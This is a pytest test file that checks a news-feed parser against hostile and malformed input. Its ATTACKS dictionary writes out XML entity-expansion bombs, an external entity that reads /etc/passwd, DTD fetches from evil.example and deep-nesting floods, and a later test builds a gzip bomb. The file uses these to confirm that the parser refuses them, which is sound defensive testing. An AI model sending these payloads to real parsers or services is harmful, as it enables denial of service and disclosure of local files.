"""What goes wrong with feeds: attacks, broken markup, wrong charsets, floods."""

from __future__ import annotations

import gzip
import json
import time
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.sources.feeds.feed_samples import FETCHED, URL, atom, item, parse, rss

from dateline.errors import FeedError
from dateline.records.feed import ParsedFeed
from dateline.sources.feeds import parse_feed

LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
ATTACKS = {
    "billion laughs": f'<?xml version="1.0"?>{LAUGHS}{rss("<item><title>&i;</title></item>")}',
    "quadratic": f'<!DOCTYPE r [<!ENTITY a "{"x" * 50_000}">]>{rss("<item><title>" + "&a;" * 5000)}',
    "external entity": '<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    + rss("<item><title>&a;</title></item>"),
    "parameter entity": '<!DOCTYPE r [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>' + rss(item(1)),
    "attribute defaults": '<!DOCTYPE r [<!ATTLIST link href CDATA "http://evil.example">]>' + rss(item(1)),
    "after a comment": "<!-- x --><?pi y?>\n" + LAUGHS + rss(item(1)),
    "after junk": "Warning: something\n" + LAUGHS + '<?xml version="1.0"?>' + LAUGHS + rss(item(1)),
    "in quotes": '<!DOCTYPE r SYSTEM "a]>" [<!ENTITY a "b">]>' + rss("<item><title>&a;</title></item>"),
    "in lower case": LAUGHS.replace("DOCTYPE", "doctype") + rss(item(1)),
    "in UTF-16": (LAUGHS + rss(item(1))).encode("utf-16"),
    "deep": "<rss><channel>" + "<item>" * 100_000,
    "deep and closed": "<rss><channel>" + "<a>" * 1000 + "</a>" * 1000 + "</channel></rss>",
    "deep JSON": '{"version": "https://jsonfeed.org/version/1.1", "items": ' + "[" * 100_000,
    "long number": '{"version": "https://jsonfeed.org/version/1.1", "items": [' + "9" * 10_000 + "]}",
    "many tags": "<rss><channel>" + "<a/>" * 2_600_000,
    "many attributes": "<rss><channel><item" + " a=''" * 2_600_000,
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_refused_quickly(attack: str) -> None:
    body = ATTACKS[attack]
    began = time.process_time()
    with pytest.raises(FeedError) as caught:
        parse(body)
    assert time.process_time() - began < 5
    assert len(str(caught.value)) < 400


def test_a_document_type_inside_of_the_feed_declares_nothing() -> None:
    body = '<rss><channel><!DOCTYPE a [<!ENTITY b "cccc">]>' + "<item><title>x &b; y</title></item></channel></rss>"
    (found,) = parse(body).entries
    assert found.title == "x &b; y"


def test_a_bomb_of_gzip_is_refused() -> None:
    bomb = gzip.compress(b" " * (40 * 1024 * 1024))
    with pytest.raises(FeedError, match="32 MiB"):
        parse(bomb)


@pytest.mark.parametrize(
    "body", [gzip.compress(rss(item(1)).encode(), mtime=0)[:-12], b"\x1f\x8b\x08junk", b"", b" \n\0"]
)
def test_damaged_and_empty_bodies_are_errors(body: bytes) -> None:
    with pytest.raises(FeedError):
        parse(body)


def test_a_gzipped_feed_is_read() -> None:
    assert len(parse(gzip.compress(rss(item(1)).encode())).entries) == 1


@pytest.mark.parametrize(
    ("broken", "titles"),
    [
        (item(1) + item(2, "<description>Fish & chips</description>") + item(3), ["Report 1", "Report 2", "Report 3"]),
        (item(1) + item(2, "<description>a <b>c</description>") + item(3), ["Report 1", "Report 2", "Report 3"]),
        (item(1) + item(2, "<source url=x>y") + item(3), ["Report 1", "Report 2", "Report 3"]),
        (item(1) + "<item><title>a\x08b</title></item>" + item(3), ["Report 1", "ab", "Report 3"]),
        (item(1) + "<item><title>war&nbsp;&mdash;now &foo; &#8;</title></item>", ["Report 1", "war —now &foo;"]),
        (item(1) + item(2, "<guid isPer Thu>x") + item(3), ["Report 1", "Report 2", "Report 3"]),
        (item(1) + item(2, "<![CDATA[x") + item(3), ["Report 1", "Report 2", "Report 3"]),
        (item(1) + item(2, "<!-- x") + item(3), ["Report 1", "Report 2", "Report 3"]),
        (item(1) + item(2, "<a b='") + item(3), ["Report 1", "Report 2", "Report 3"]),
    ],
)
def test_a_broken_feed_is_read_as_far_as_it_goes_and_that_is_told(broken: str, titles: list[str]) -> None:
    feed = parse(rss(broken))
    assert [found.title for found in feed.entries] == titles
    assert "not well-formed XML (line 1, column" in feed.problems[0]


@pytest.mark.parametrize("fault", ["<9>", "<b>", "</x>", "&", "&nbsp;", "<a b>"])
def test_a_fault_does_not_harm_the_entries_after_it(fault: str) -> None:
    good = item(2, "<description>&lt;p&gt;Fish &amp;amp; chips&lt;/p&gt; &#38; <![CDATA[&amp; peas]]></description>")
    feed = parse(rss(f"<item><title>a</title>{fault}</item>{good}"))
    assert feed.entries[-1].title == "Report 2"
    assert feed.entries[-1].summary == "Fish & chips & & peas"


@pytest.mark.parametrize("frame", [rss, atom])
def test_a_feed_that_is_cut_off_loses_the_entry_that_is_cut(frame: Callable[[str], str]) -> None:
    name = "item" if frame is rss else "entry"
    entries = "".join(f"<{name}><title>Report {n}</title><id>{n}</id></{name}>" for n in (1, 2))
    whole = frame(entries)
    feed = parse(whole[: whole.index("Report 2") + 8])
    assert [found.title for found in feed.entries] == ["Report 1"]
    assert "ends inside an entry" in feed.problems[0]
    with pytest.raises(FeedError, match="no entry can be read"):
        parse(whole[: whole.index("Report 1") + 8])


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ("<Envelope/>", "<Envelope>"),
        ("plain words", "neither XML nor JSON"),
        ('{"error": "no"}', "no JSON Feed"),
        ('{"version": "https://jsonfeed.org/version/1", "items": [', "broken JSON"),
        ("[1, 2]", "no JSON Feed"),
        ("<opml version='2.0'/>", "import it"),
        (b"\x89PNG\r\n\x1a\n\0\0\0", ""),
    ],
)
def test_what_is_no_feed_is_an_error_that_says_what_it_is(body: str | bytes, said: str) -> None:
    with pytest.raises(FeedError) as caught:
        parse(body, media="text/plain")
    assert said in str(caught.value)
    assert caught.value.where == URL


def test_a_web_page_is_an_error_that_proposes_its_feeds() -> None:
    page = (
        "<!DOCTYPE html><html><head><title>News</title><base href='/en/'>"
        "<link rel='alternate' type='application/rss+xml' title='All news' href='rss.xml'>"
        "<link rel='alternate' hreflang='fr' href='/fr/'></head><body></body></html>"
    )
    with pytest.raises(FeedError) as caught:
        parse(page)
    assert "https://news.example/en/rss.xml (All news)" in caught.value.reason
    assert "/fr/" not in caught.value.reason
    with pytest.raises(FeedError, match="names none"):
        parse("<html><body>Not found</body></html>")


RUSSIAN = "Обстрел порта в Одессе: погибли двое"
ARABIC = "قصف ميناء الحديدة"
FRENCH = "Explosion à l’aéroport de Bangui : trois blessés"


@pytest.mark.parametrize(
    ("title", "codec", "declared", "header"),
    [
        (FRENCH, "utf-8", None, None),
        (FRENCH, "utf-8", "iso-8859-1", None),
        (FRENCH, "utf-8", "utf-8", "iso-8859-1"),
        (FRENCH, "cp1252", "utf-8", None),
        (FRENCH, "cp1252", None, "iso-8859-1"),
        (FRENCH, "utf-16", "utf-16", None),
        (FRENCH, "utf-16-le", None, "utf-8"),
        (FRENCH, "utf-16-be", "utf-8", None),
        (RUSSIAN, "cp1251", "windows-1251", None),
        (RUSSIAN, "cp1251", None, "windows-1251"),
        (RUSSIAN, "cp1251", "windows-1251", "iso-8859-1"),
        (RUSSIAN, "koi8-r", "koi8-r", None),
        (ARABIC, "cp1256", "windows-1256", None),
        (ARABIC, "cp1256", "utf-8", "windows-1256"),
        (ARABIC, "utf-8-sig", "windows-1256", None),
    ],
)
def test_charsets_are_told_by_the_bytes(title: str, codec: str, declared: str | None, header: str | None) -> None:
    prolog = f'<?xml version="1.0" encoding="{declared}"?>\n' if declared else ""
    text = prolog + rss(f"<item><title>{title}</title><link>https://news.example/a</link></item>")
    assert [found.title for found in parse(text.encode(codec), charset=header).entries] == [title]


def test_a_wrong_charset_is_told() -> None:
    text = '<?xml version="1.0" encoding="utf-8"?>' + rss(f"<item><title>{FRENCH}</title></item>")
    assert any("a guess" in problem for problem in parse(text.encode("cp1252")).problems)
    bare = text.partition("?>")[2]
    assert any("said to be in cp1251" in problem for problem in parse(bare.encode(), charset="windows-1251").problems)


def test_a_feed_of_a_hundred_thousand_entries_is_bounded() -> None:
    items = "".join(
        f"<item><title>R {n}</title><link>https://news.example/{n}</link>"
        f"<pubDate>{1 + n // 5000:02d} Nov 2026 10:00 GMT</pubDate></item>"
        for n in range(100_000)
    )
    body = rss(items).encode()
    began = time.process_time()
    feed = parse(body)
    spent = time.process_time() - began
    assert len(feed.entries) == 1000
    assert feed.entries[0].title == "R 95000"  # oldest first in the feed, newest first in what is taken
    assert "holds 100000 entries; the newest 1000 are taken" in feed.problems
    assert spent < 5


def test_repeated_problems_are_counted() -> None:
    feed = parse(rss("".join(f"<item><title>{n}</title><pubDate>soon</pubDate></item>" for n in range(50))))
    assert len(feed.problems) == 6
    assert feed.problems[-1] == "45 more: date: broken"


@given(st.binary(max_size=400))
@settings(max_examples=200, deadline=None)
def test_arbitrary_bytes_give_entries_or_a_feed_error(body: bytes) -> None:
    _survives(body)


WHOLE = (
    rss(item(1, "<description><![CDATA[<p>x &amp; y</p>]]></description>") + item(2)).encode(),
    atom("<entry><id>1</id><title type='xhtml'><div>a</div></title><link href='/a'/></entry>").encode(),
    json.dumps(
        {"version": "https://jsonfeed.org/version/1.1", "items": [{"id": 1, "url": "/a", "title": "b"}]}
    ).encode(),
    b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://a.example/b</loc></url></urlset>',
    b"<html><body><main><a href='/2026/11/26/a-b-c-d'>A headline of some words here</a></main></body></html>",
)
PIECES = (
    b"<",
    b">",
    b"&",
    b"]]>",
    b"<![CDATA[",
    b"<item>",
    b"</item>",
    b'"',
    b"\0",
    b"\xff",
    b"<!DOCTYPE a [",
    b"&#x110000;",
    b"{",
    b"<?",
)


@given(st.data())
@settings(max_examples=400, deadline=None)
def test_mutated_feeds_give_entries_or_a_feed_error(data: st.DataObject) -> None:
    body = bytearray(data.draw(st.sampled_from(WHOLE)))
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(body)))
        cut = data.draw(st.integers(0, 30))
        body[at : at + cut] = data.draw(st.one_of(st.sampled_from(PIECES), st.binary(max_size=6)))
    _survives(bytes(body))


def _survives(body: bytes) -> None:
    for kind in (None, "page"):
        try:
            feed = parse_feed(body, url=URL, media=None, charset="utf-7", fetched=FETCHED, kind=kind)
        except FeedError as error:
            assert error.reason
            continue
        assert isinstance(feed, ParsedFeed)
        for found in feed.entries:
            assert found.keys
            assert found.url is None or found.url.startswith(("http://", "https://"))
            repr(found).encode("utf-8")
            "".join(part or "" for part in (found.title, found.summary, found.content, found.guid)).encode("utf-8")
